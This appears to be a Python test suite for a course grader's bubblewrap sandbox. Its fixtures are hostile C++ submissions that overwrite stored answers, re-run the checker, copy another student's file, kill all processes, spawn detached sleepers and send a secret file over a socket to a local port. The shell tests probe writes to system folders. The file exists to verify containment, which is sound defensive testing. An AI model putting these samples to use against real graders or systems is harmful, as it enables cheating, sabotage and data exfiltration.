"""Submissions that want more than to be graded: each has its row, and nothing else changes."""

import csv
import hashlib
import os
import signal
import socket
import time
import unittest
from pathlib import Path
from unittest import mock

from support import BUILD, FORBIDDEN, ROOT, CourseTest, solution_of

from course import bubblewrap, engine, marks, sandbox

EXERCISE = "6.5"
FILE = "common/structure/bvh/split_median.cpp"
RIGHT = solution_of(EXERCISE)
WRONG = "    return BvhCut{0, 1};"
SLEEPS = "98765.4321"  # seconds, and how the sleepers are found

POSIX = """extern "C" {
int execv(const char*, char* const*);
int execlp(const char*, const char*, ...);
int fork();
int setsid();
int kill(int, int);
int getppid();
int system(const char*);
char* getenv(const char*);
void* dlopen(const char*, int);
void* dlsym(void*, const char*);
int usleep(unsigned);
int socket(int, int, int);
int connect(int, const void*, unsigned);
long write(int, const void*, unsigned long);
}
"""


def submitted(code, *headers, above="", change=lambda text: text):
    """The file of a submission: the project's with other lines, and what stands above them."""
    included = "".join(f"#include <{header}>\n" for header in headers)
    text = marks.with_code((ROOT / FILE).read_text(), FILE, {EXERCISE: code.split("\n")})
    first = text.index("namespace raysteps")
    return change(text[:first] + included + POSIX + above + text[first:])


def once(lines, then=WRONG):
    """Lines that run at the first call."""
    return (f"    [[maybe_unused]] static const bool done = [] {{\n{lines}\n        return true;\n    }}();\n"
            f"{then}")


OVERWRITES_KEPT_ANSWERS = submitted(once(f"""
        std::error_code ignored;
        for (const char* folder : {{"{engine.STORE}/reference", "{ROOT}/chapters/06_bvh"}}) {{
            for (std::filesystem::directory_iterator file(folder, ignored), end; file != end;
                 file.increment(ignored)) {{
                if (file->path().extension() == ".json") {{
                    std::ofstream(file->path()) << "{{}}";
                }}
            }}
        }}"""), "filesystem", "fstream")

RUNS_THE_CHECKER = submitted(once(f"""
        std::ifstream file("/proc/self/cmdline");
        std::vector<std::string> words;
        for (std::string word; std::getline(file, word, '\\0');) {{
            words.push_back(word);
        }}
        std::vector<char*> arguments;
        for (std::string& word : words) {{
            arguments.push_back(word.data());
        }}
        arguments.push_back(nullptr);
        execv("{BUILD}/scripts/course/answers/course_builders", arguments.data());"""), "fstream", "string", "vector")

LEAVES_SLEEPERS = submitted(once(f"""
        for (int i = 0; i < 10; ++i) {{
            if (fork() == 0) {{
                setsid();
                execlp("sleep", "sleep", "{SLEEPS}", static_cast<char*>(nullptr));
            }}
        }}
        usleep(300000);"""))


def reads_another(path):
    return submitted(WRONG, above=f'asm(".inc" "bin \\"{path}\\"");\n')


# New ones: an accomplice who knows the answer leaves it where the next one may look; the project's own
# function or source does the work; the grader is killed; what is found is told to someone outside.
PLACES = ('std::vector<std::string>{"/tmp/left", "/dev/shm/left", "/var/tmp/left", "left", "../left", '
          'std::string(getenv("TMPDIR"))}')
LEAVES_THE_ANSWER = submitted(once(f"""
        for (const std::string& place : {PLACES}) {{
            std::ofstream(place) << "right";
            std::ofstream(place + "/left") << "right";
        }}""", RIGHT), "fstream", "string", "vector")
FINDS_THE_ANSWER = submitted(f"""    for (const std::string& place : {PLACES}) {{
        if (std::ifstream(place + "/left") || (place.ends_with("left") && std::ifstream(place))) {{
        {RIGHT}
        }}
    }}
{WRONG}""", "fstream", "string", "vector")
LEAVES_IT_TO_THE_PROJECT = submitted(
    RIGHT, change=lambda text: text.replace("split_median(const", "split_mine(const"))
COMPILES_THE_PROJECT = submitted(f"""    static const auto theirs = [] {{
        system("c++ -std=c++20 -shared -fPIC -I{ROOT}/common {ROOT}/{FILE} -o /tmp/theirs.so 2>/dev/null");
        void* library = dlopen("/tmp/theirs.so", 2);
        return reinterpret_cast<std::optional<BvhCut> (*)(const BvhRange&, const BvhOptions&)>(
            library ? dlsym(library, "_ZN8raysteps12split_medianERKNS_8BvhRangeERKNS_10BvhOptionsE")
                    : nullptr);
    }}();
    if (theirs) {{
        return theirs(range, {{}});
    }}
{WRONG}""")
KILLS_WHAT_IT_CAN = submitted(once("""
        kill(getppid(), 9);
        kill(-1, 9);"""))


def tells_outside(port, secret):
    return submitted(once(f"""
        std::ifstream file("{secret}");
        std::string text;
        std::getline(file, text);
        struct {{ unsigned short family, port; unsigned char address[12]; }} there{{
            2, __builtin_bswap16({port}), {{127, 0, 0, 1}}}};
        const int line = socket(2, 1, 0);
        if (connect(line, &there, 16) == 0) {{
            write(line, text.data(), text.size());
        }}"""), "fstream", "string")


def digest_of(folder):
    return {path: hashlib.sha256(path.read_bytes()).hexdigest()
            for path in sorted(Path(folder).rglob("*")) if path.is_file()}


def sleepers():
    found = []
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            found += [path] if SLEEPS.encode() in path.read_bytes().split(b"\0") else []
        except OSError:
            pass
    return found


@unittest.skipIf(FORBIDDEN, f"bubblewrap cannot run here: {FORBIDDEN}")
class Attacks(CourseTest):
    def test_each_has_its_row_and_nothing_else_changes(self):
        handed_in, secret = self.folder / "handed in", self.folder / "secret"
        secret.write_text("a teacher's")
        with socket.create_server(("127.0.0.1", 0)) as outside:
            outside.settimeout(0.1)
            alice = handed_in / "alice" / FILE
            answers = {"alice": submitted(RIGHT), "zoe": submitted(RIGHT),
                       "overwrites": OVERWRITES_KEPT_ANSWERS, "runs_checker": RUNS_THE_CHECKER,
                       "leaves_sleepers": LEAVES_SLEEPERS, "reads_another": reads_another(alice),
                       "an_accomplice": LEAVES_THE_ANSWER, "finds_answer": FINDS_THE_ANSWER,
                       "leaves_it": LEAVES_IT_TO_THE_PROJECT, "compiles_project": COMPILES_THE_PROJECT,
                       "kills": KILLS_WHAT_IT_CAN,
                       "tells_outside": tells_outside(outside.getsockname()[1], secret)}
            for name, text in answers.items():
                path = handed_in / name / FILE
                path.parent.mkdir(parents=True)
                path.write_text(text)
            (handed_in / "one.rar").write_bytes(b"Rar!\x1a\x07\x00")
            self.course("grade", handed_in / "alice", "--only", EXERCISE)  # keeps the answers
            before = digest_of(engine.STORE / "reference"), digest_of(handed_in)
            table = self.folder / "grades.csv"
            self.course("grade", handed_in, "--only", EXERCISE, "--csv", table)
            with self.assertRaises(TimeoutError):
                outside.accept()
        with open(table, newline="") as file:
            found = {row["submission"]: (row["score"], row[EXERCISE]) for row in csv.DictReader(file)}
        passed = ("1", "passed")
        self.assertEqual(found, {
            "alice": passed, "an_accomplice": passed, "compiles_project": ("0", "failed"),
            "finds_answer": ("0", "failed"), "kills": ("0", "crashed"), "leaves_it": ("0", "does not compile"),
            "leaves_sleepers": ("0", "failed"), "one.rar": ("0", "unreadable"),
            "overwrites": ("0", "failed"), "reads_another": ("0", "does not compile"),
            "runs_checker": ("0", "failed"), "tells_outside": ("0", "failed"), "zoe": passed})
        kept, submissions = digest_of(engine.STORE / "reference"), digest_of(handed_in)
        self.assertEqual({path: kept.get(path) for path in before[0]}, before[0])  # others may be added beside
        self.assertEqual(submissions, before[1])
        self.assertEqual(sleepers(), [])
        self.assertFalse(any(Path(place).exists() for place in ("/tmp/left", "/dev/shm/left", "/var/tmp/left")))


@unittest.skipIf(FORBIDDEN, f"bubblewrap cannot run here: {FORBIDDEN}")
class Inside(CourseTest):
    """What a program sees and may do there."""

    def shell(self, script, processes=16, memory=8 << 30, **places):
        limits = sandbox.Limits(seconds=20, processes=0, file_bytes=1 << 20, memory_bytes=memory)
        return sandbox.run(bubblewrap.around(["/bin/sh", "-c", script], processes, **places), limits,
                           {"PATH": "/usr/bin:/bin"}, self.folder)

    def test_only_what_is_lent_is_there(self):
        lent, hidden = self.folder / "lent", self.folder / "lent" / "hidden"
        lent.mkdir()
        hidden.write_text("solution")
        (lent / "seen").write_text("seen\n")
        bubblewrap.lend(lent)
        outcome = self.shell(f"cat {lent}/seen; cat {hidden}; ls {self.folder} {ROOT} /home /root /var",
                             readable=[lent], hidden=[hidden])
        self.assertEqual(outcome.output.split(), ["seen", f"{self.folder}:", "lent"])

    def test_nothing_can_be_written_but_memory_and_what_is_lent_for_it(self):
        (self.folder / "out").mkdir()
        bubblewrap.lend(self.folder / "out")
        self.shell("for place in / /dev /dev/shm /usr /etc /proc/sys/kernel; do echo x > $place/x; done; "
                   f"echo x > {self.folder}/out/x; echo x > /tmp/x; ls /tmp/x {self.folder}/out/x",
                   writable=[self.folder / "out"])
        self.assertTrue((self.folder / "out" / "x").exists())
        self.assertFalse(any(Path(place, "x").exists() for place in ("/", "/dev", "/dev/shm", "/usr", "/etc")))

    def test_the_memory_of_tmp_ends(self):
        outcome = self.shell("i=0; while [ $i -lt 100 ]; do head -c 1000000 /dev/zero > /tmp/$i || break; "
                             "i=$((i + 1)); done 2>/dev/null; echo $i")
        self.assertLess(int(outcome.output), 70)

    def test_memory_is_counted_for_all_processes_together(self):
        holds = "/usr/bin/python3 -c 'import time; held = b\"x\" * (200 << 20); time.sleep(15)'"
        outcome = self.shell(f"for i in 1 2 3 4 5; do setsid {holds} & done; wait; echo end", memory=700 << 20)
        self.assertEqual((sandbox.signal_of(outcome.code), outcome.timed_out, outcome.output),
                         (signal.SIGKILL, False, ""))

    def test_processes_are_counted_for_root_too(self):
        outcome = self.shell("for i in $(seq 100); do sleep 1 & done 2>/dev/null; ls /proc | grep -c '^[0-9]'")
        self.assertNotEqual(outcome.output.strip(), "100")
        self.assertLess(int(outcome.output.strip() or 0), 20)

    def test_it_has_no_network_and_no_rights(self):
        outcome = self.shell("grep -c : /proc/net/dev; grep -h Cap /proc/self/status; id -u")
        lines = outcome.output.split("\n")
        self.assertEqual(lines[0], "2" if "lo:" in outcome.output else lines[0])
        self.assertEqual({line.split()[1] for line in lines[1:6]}, {"0" * 16})
        self.assertEqual(lines[6], str(bubblewrap.account()))

    def test_it_ends_with_what_it_has_started(self):
        self.shell(f"setsid sleep {SLEEPS} & setsid sh -c 'sleep {SLEEPS}' & exit 0")
        time.sleep(0.3)
        self.assertEqual(sleepers(), [])

    def test_a_signal_is_told_through_it(self):
        self.assertEqual(sandbox.signal_of(self.shell("kill -SEGV $$").code), signal.SIGSEGV)


class Forbidden(CourseTest):
    """Machines without bubblewrap, or that forbid it."""

    def setUp(self):
        super().setUp()
        path = self.folder / "handed in" / "alice" / FILE
        path.parent.mkdir(parents=True)
        path.write_text(submitted(RIGHT))

    def grade(self, programs, *more, expect):
        with mock.patch.dict(os.environ, PATH=programs):
            return self.course("grade", self.folder / "handed in", "--only", EXERCISE, *more, expect=expect)

    def test_where_it_is_missing_grade_says_what_to_install(self):
        others = self.folder / "others"  # all programs but bwrap
        others.mkdir()
        for folder in os.environ["PATH"].split(":"):
            for program in Path(folder).glob("*"):
                if program.name != "bwrap" and not (others / program.name).is_symlink():
                    (others / program.name).symlink_to(program)
        printed = self.grade(str(others), expect=3)
        self.assertIn("apt-get install bubblewrap", printed)
        self.assertIn("--without-sandbox", printed)

    def test_a_sandbox_that_fails_later_is_no_students_fault(self):
        breaks = self.folder / "bin" / "bwrap"
        breaks.parent.mkdir()
        breaks.write_text(f"#!/bin/sh\n[ -e {self.folder}/tried ] && echo 'bwrap: no namespaces left' >&2 && exit 1\n"
                          f"touch {self.folder}/tried\n")  # the first one is the probe
        breaks.chmod(0o755)
        printed = self.grade(f"{breaks.parent}:{os.environ['PATH']}", expect=3)
        self.assertIn("alice: 0 of 1", printed)
        self.assertIn("`not graded`", printed)

    def test_where_the_system_forbids_it_grade_says_so_and_goes_on_only_when_asked(self):
        forbids = self.folder / "bin" / "bwrap"
        forbids.parent.mkdir()
        forbids.write_text("#!/bin/sh\necho 'bwrap: setting up uid map: Permission denied' >&2\nexit 1\n")
        forbids.chmod(0o755)
        programs = f"{forbids.parent}:{os.environ['PATH']}"
        printed = self.grade(programs, expect=3)
        self.assertIn("setting up uid map: Permission denied", printed)
        self.assertIn("apparmor_restrict_unprivileged_userns", printed)
        self.assertIn("alice: 1 of 1", self.grade(programs, "--without-sandbox", expect=0))


if __name__ == "__main__":
    unittest.main()
